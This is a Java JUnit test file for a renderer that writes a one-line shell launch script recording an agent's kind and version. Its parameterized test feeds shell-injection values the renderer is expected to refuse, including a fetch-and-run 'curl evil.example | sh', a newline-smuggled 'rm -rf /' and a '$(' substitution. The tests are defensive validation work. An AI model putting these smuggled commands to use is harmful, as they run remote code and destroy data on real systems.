package dev.bulwark.baseline;

import dev.bulwark.blueprint.Agent;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class UserDataRendererTest {
    private final UserDataRenderer renderer = new UserDataRenderer();

    @Test
    void render_openclawAgent_recordsKindVersionAndPendingBaseline() {
        String script = renderer.render(new Agent("openclaw", "2026.9.6", 18789));

        assertTrue(script.contains("'BULWARK_AGENT_KIND=openclaw'"), script);
        assertTrue(script.contains("'BULWARK_AGENT_VERSION=2026.9.6'"), script);
        assertTrue(script.contains("'BULWARK_BASELINE=pending' > /etc/bulwark/agent.env"), script);
    }

    @Test
    void render_anyAgent_isShellNotCloudConfig() {
        String script = renderer.render(new Agent("openclaw", "2026.9.6", 18789));

        assertFalse(script.startsWith("#cloud-config"), "Lightsail appends user data to its own sh script");
        assertFalse(script.startsWith("#!"), "a shebang in the middle of Lightsail's script is only a comment");
    }

    @Test
    void render_anyAgent_isOneLineSoJoinedLineBreaksCannotCommentItOut() {
        String script = renderer.render(new Agent("openclaw", "2026.9.6", 18789));

        assertEquals(1, script.lines().count(), script);
        assertTrue(script.startsWith("mkdir -p /etc/bulwark && "), script);
    }

    @Test
    void render_runBySh_writesExactlyTheAgentRecord(@TempDir Path dir) throws Exception {
        // Runs the real script with sh, pointed at a temporary directory instead of /etc/bulwark.
        String script = renderer.render(new Agent("openclaw", "2026.9.6", 18789))
                .replace("/etc/bulwark", dir.toString());

        Process sh = new ProcessBuilder("sh", "-c", script).redirectErrorStream(true).start();
        String output = new String(sh.getInputStream().readAllBytes(), StandardCharsets.UTF_8);

        assertEquals(0, sh.waitFor(), output);
        assertEquals(List.of("BULWARK_AGENT_KIND=openclaw", "BULWARK_AGENT_VERSION=2026.9.6",
                "BULWARK_BASELINE=pending"), Files.readAllLines(dir.resolve("agent.env")));
    }

    @Test
    void render_sameAgent_isDeterministic() {
        // Changing user data replaces the instance, so the same blueprint must render the same bytes.
        Agent agent = new Agent("openclaw", "2026.9.6", 18789);
        assertEquals(renderer.render(agent), renderer.render(agent));
    }

    @Test
    void render_anyAgent_doesNotMentionGatewayPort() {
        String script = renderer.render(new Agent("openclaw", "2026.9.6", 18789));
        assertFalse(script.contains("18789"), "the launch script records the agent, it does not configure it");
    }

    @ParameterizedTest
    @CsvSource(delimiterString = "=>", quoteCharacter = '"', value = {
            "openclaw   => 1.0'; curl evil.example | sh; '",
            "openclaw   => 1.0\\nrm -rf /",
            "openclaw   => \"\"",
            "open claw  => 1.0",
            "OpenClaw$( => 1.0",
    })
    void render_valueNotIdentifierShaped_isRefusedWithFieldName(String kind, String version) {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> renderer.render(new Agent(kind, version.replace("\\n", "\n"), 18789)));
        assertTrue(e.getMessage().startsWith("agent."), e.getMessage());
        assertTrue(e.getMessage().contains("blueprint"), e.getMessage());
    }
}
